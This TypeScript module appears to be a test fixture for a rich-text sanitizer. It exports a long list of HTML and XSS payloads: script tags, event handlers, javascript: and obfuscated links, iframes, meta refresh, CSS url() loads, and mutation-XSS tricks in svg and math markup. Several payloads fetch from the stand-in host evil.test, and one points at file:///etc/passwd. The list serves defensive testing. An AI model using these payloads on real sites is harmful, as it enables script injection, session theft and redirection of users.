/**
 * Texts that try to run a script, load something or leave the page, once they are shown as rich text. Where a script
 * runs it calls `pwned()`; where something is fetched it is from `evil.test`.
 */

const RUN = 'pwned()'
const EVIL = 'https://evil.test/x'
const IMG = `<img src=x onerror=${RUN}>`

const HANDLERS =
  'onload onerror onclick onmouseover onfocus onblur onpointerenter onanimationstart ontransitionend ontoggle onbegin onwheel onscroll oncopy onpaste onbeforeinput onpageshow onhashchange onresize oncontentvisibilityautostatechange'
    .split(' ')
    .map((handler) => `<p ${handler}="${RUN}" tabindex="1" autofocus style="animation:x 1s">a</p>`)

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<script src="${EVIL}.js"></script>`,
  `<script src=//evil.test/x.js></script>`,
  `<script type="module">${RUN}</script>`,
  `<script type="text/javascript">${RUN}`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script>/*</script><script>*/${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<!-- --!><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<script\u0000>${RUN}</script>`,
  `<\u0000script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;<script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><script>${RUN}</script></noscript>`
]

const PICTURES = [
  IMG,
  `<img src="x" onerror="${RUN}">`,
  `<img src='x' onerror='${RUN}'>`,
  `<img src=x onerror=\`${RUN}\`>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img\nsrc=x\nonerror\n=\n${RUN}>`,
  `<img src=x onerror&#61;${RUN}>`,
  `<img src=x ONERROR=${RUN}>`,
  `<img src="x" onerror="&#112;wned()">`,
  `<img src="x" onerror="&#x70;wned&lpar;&rpar;">`,
  `<img """><script>${RUN}</script>">`,
  `<img src="x"onerror="${RUN}">`,
  `<img src=x:x onerror=${RUN}//`,
  `<image src=x onerror=${RUN}>`,
  `<img src="javascript:${RUN}">`,
  `<img src="${EVIL}.png">`,
  `<img src="//evil.test/x.png">`,
  `<img src="\\\\evil.test\\x.png">`,
  `<img src="/\\evil.test/x.png">`,
  `<img src="/\t/evil.test/x.png">`,
  `<img srcset="${EVIL}.png 1x">`,
  `<img src="/assets/a.png" srcset="${EVIL}.png 2x">`,
  `<picture><source srcset="${EVIL}.png"><img src="/assets/a.png"></picture>`,
  `<img src="/assets/a.png" onload="${RUN}">`,
  `<img src="/assets/../sandbox/pay">`,
  `<img src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<img src="data:text/html,<script>${RUN}</script>">`,
  `<img usemap="#m" src="/assets/a.png"><map name="m"><area href="javascript:${RUN}" coords="0,0,9,9"></map>`,
  `<input type="image" src="${EVIL}.png" onerror="${RUN}">`,
  `<video src="${EVIL}.mp4" poster="${EVIL}.png" onerror="${RUN}"></video>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src="${EVIL}.mp3" onerror="${RUN}" autoplay></audio>`
]

const LINKS = [
  'javascript:pwned()',
  'JavaScript:pwned()',
  ' javascript:pwned()',
  '\u0001javascript:pwned()',
  'java\tscript:pwned()',
  'java\nscript:pwned()',
  'java\u0000script:pwned()',
  'javascript&colon;pwned()',
  'javascript&#58;pwned()',
  '&#106;avascript:pwned()',
  '&#0000106avascript:pwned()',
  'jav&Tab;ascript:pwned()',
  'jav&NewLine;ascript:pwned()',
  'javascript://evil.test/%0apwned()',
  'vbscript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  'blob:https://evil.test/1',
  'file:///etc/passwd',
  'weixin://dl/business',
  'intent://evil.test#Intent;end',
  'about:blank',
  'feed:javascript:pwned()',
  'x:javascript:pwned()',
  '//evil.test/x',
  '\\\\evil.test\\x',
  '/\\evil.test/x',
  '/pages\\..\\..\\evil.test',
  '/sandbox/pay',
  '/wechat/prod/authorize?to=//evil.test'
].flatMap((address) => [`<a href="${address}">a</a>`, `<a target="_top" href='${address}'><b>a</b></a>`])

const FRAMES = [
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${EVIL}"></iframe>`,
  `<iframe onload="${RUN}"></iframe>`,
  `<frameset onload="${RUN}"><frame src="${EVIL}"></frameset>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="${EVIL}"></object>`,
  `<embed src="${EVIL}">`,
  `<embed src="javascript:${RUN}">`,
  `<applet code="${EVIL}"></applet>`,
  `<portal src="${EVIL}"></portal>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta name="referrer" content="unsafe-url">`,
  `<base href="${EVIL}"><img src="x.png">`,
  `<base href="javascript:/a/-${RUN}//">`,
  `<link rel="stylesheet" href="${EVIL}.css">`,
  `<link rel="preload" as="image" href="${EVIL}.png">`,
  `<link rel="prefetch" href="${EVIL}">`,
  `<link rel="import" href="${EVIL}">`,
  `<body onload="${RUN}" background="${EVIL}.png">`,
  `<html onpageshow="${RUN}">`,
  `<table background="${EVIL}.png"><tr><td background="${EVIL}.png">a</td></tr></table>`,
  `<marquee onstart="${RUN}">a</marquee>`,
  `<details open ontoggle="${RUN}">a</details>`,
  `<dialog open onclose="${RUN}"><form method="dialog"><button autofocus>a</button></form></dialog>`,
  `<isindex action="javascript:${RUN}" type="image">`,
  `<keygen autofocus onfocus="${RUN}">`
]

const FORMS = [
  `<form action="javascript:${RUN}"><button>a</button></form>`,
  `<form action="${EVIL}"><input name="phone"><button>a</button></form>`,
  `<form id="f"></form><button form="f" formaction="javascript:${RUN}">a</button>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"><option>a</select>`,
  `<textarea autofocus onfocus="${RUN}">a</textarea>`,
  `<button autofocus onfocus="${RUN}">a</button>`
]

const STYLES = [
  `<style>@import "${EVIL}.css";</style>`,
  `<style>body{background:url(${EVIL}.png)}</style>`,
  `<style>*{display:none}</style>`,
  `<p style="background:url(${EVIL}.png)">a</p>`,
  `<p style="background:u\\72l(${EVIL}.png)">a</p>`,
  `<p style="background:url/**/(${EVIL}.png)">a</p>`,
  `<p style="background-image:image-set('${EVIL}.png' 1x)">a</p>`,
  `<p style="list-style:url(${EVIL}.png)">a</p>`,
  `<p style="cursor:url(${EVIL}.cur),auto">a</p>`,
  `<p style="border-image:url(${EVIL}.png)">a</p>`,
  `<p style="mask:url(${EVIL}.svg#a)">a</p>`,
  `<p style="color:red;background:&#117;rl(${EVIL}.png)">a</p>`,
  `<p style="width:expression(${RUN})">a</p>`,
  `<p style="behavior:url(${EVIL}.htc)">a</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">a</p>`,
  `<p style="pos\\ition:fixed;top:0">a</p>`,
  `<p style="margin-top:-9999px">a</p>`,
  `<p style="color:red}body{display:none">a</p>`,
  `<p style="color:red;--x:url(${EVIL})">a</p>`,
  `<p style="text-align:center/*" title="*/;position:fixed">a</p>`,
  `<div class="taro_page" id="app">a</div>`,
  `<a name="location" id="cookie">a</a>`
]

const RAW_TEXT = 'noscript noembed noframes xmp textarea title template select iframe style'
  .split(' ')
  .map((tag) => `<${tag}><p title="</${tag}>${IMG}">`)

const FOREIGN = [
  `<svg onload="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set attributeName="href" to="javascript:${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><image href="${EVIL}.png"/></svg>`,
  `<svg><foreignObject>${IMG}</foreignObject></svg>`,
  `<svg><style>${IMG}</style></svg>`,
  `<svg></p><style><a id="</style>${IMG}">`,
  `<svg><p><style><!--</style>${IMG}--></style>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mtext><table><mglyph><style><math>${IMG}</style></math>`,
  `<math href="javascript:${RUN}">a</math>`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<plaintext>${IMG}`,
  `<table><a href="javascript:${RUN}"><tr><td>a</td></tr></a></table>`,
  `<p title="&quot;>${IMG}">a</p>`,
  `<p title='">${IMG}'>a</p>`,
  `<p title="\`"><img alt="\`>${IMG}">`,
  `<a title="&lt;/a&gt;${IMG}" href="https://a.test/">a</a>`,
  `<img src="/assets/a.png" alt="&quot; onload=${RUN} x=&quot;">`,
  `<a href="https://a.test/&quot; onfocus=${RUN} autofocus=&quot;">a</a>`,
  `<a href="https://a.test/"><a href="javascript:${RUN}">a</a></a>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `<x onclick="${RUN}">a</x>`,
  `<custom-element onpointerenter="${RUN}">a</custom-element>`,
  `<p is="x-y" onclick="${RUN}">a</p>`,
  `<p contenteditable onfocus="${RUN}" autofocus>a</p>`,
  `<wx-open-launch-weapp username="gh_x" onlaunch="${RUN}"></wx-open-launch-weapp>`,
  `${'<'.repeat(2000)}img src=x onerror=${RUN}>`,
  `${'<b>'.repeat(300)}${IMG}`,
  `<p ${'a '.repeat(500)} onclick=${RUN}>a</p>`,
  `</p></div></body><script>${RUN}</script>`,
  `<p title="a`,
  `<a href="javascript:${RUN}`,
  `<!-- ${IMG}`
]

export const HTML_ATTACKS: readonly string[] = [
  ...new Set([
    ...HANDLERS,
    ...SCRIPTS,
    ...PICTURES,
    ...LINKS,
    ...FRAMES,
    ...FORMS,
    ...STYLES,
    ...RAW_TEXT,
    ...FOREIGN
  ])
]
